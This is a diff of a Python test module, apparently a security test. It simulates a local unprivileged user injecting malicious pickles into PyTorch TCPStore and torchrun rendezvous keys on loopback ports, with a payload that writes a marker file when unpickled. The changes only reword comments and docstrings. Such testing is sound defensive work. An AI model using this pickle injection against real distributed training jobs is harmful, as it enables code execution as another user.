@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Another user of the machine, who tries to run code as the trainee through whatever listens."""
+"""Another user of the machine, who tries to run code as the training user through listening sockets."""
 
 import base64
 import encodings.idna  # noqa: F401 - of every connection
@@ -9,14 +9,14 @@ import socket
 import traceback
 from datetime import timedelta
 
-# root's environments are out of reach for others: whatever the stranger needs is imported before
+# other users cannot read root's environments, so everything the stranger needs is imported first
 import torch.distributed as dist
 
 NOBODY = 65534
 
 
 class Payload:
-    """Unpickled, it writes a file."""
+    """An object that writes a file when unpickled."""
 
     def __init__(self, marker):
         self.marker = marker
@@ -34,7 +34,7 @@ def become_nobody():
 
 
 def as_nobody(work):
-    """Run ``work`` in a forked process of another user; its process id, and a file with what it returns."""
+    """Run ``work`` in a fork as another user; returns the process id and a file with the result."""
     read, write = os.pipe()
     pid = os.fork()
     if pid:
@@ -52,14 +52,14 @@ def as_nobody(work):
 
 
 def attack(ports, marker):
-    """Write a pickle into every store and every socket at these ports of loopback; says what was reached."""
+    """Write a pickle to every store and socket at these loopback ports; returns the stores' ports."""
     poison = pickle.dumps(Payload(marker))
     reached = []
     for port in ports:
         try:
             wait = timedelta(seconds=0.3)
             store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=wait, wait_for_workers=False)
-            # torchrun's state, and whatever else is there
+            # torchrun's state, and all other keys
             store.set("torch.rendezvous.none", base64.b64encode(poison))
             for key in store.list_keys():
                 if "rendezvous" not in key:
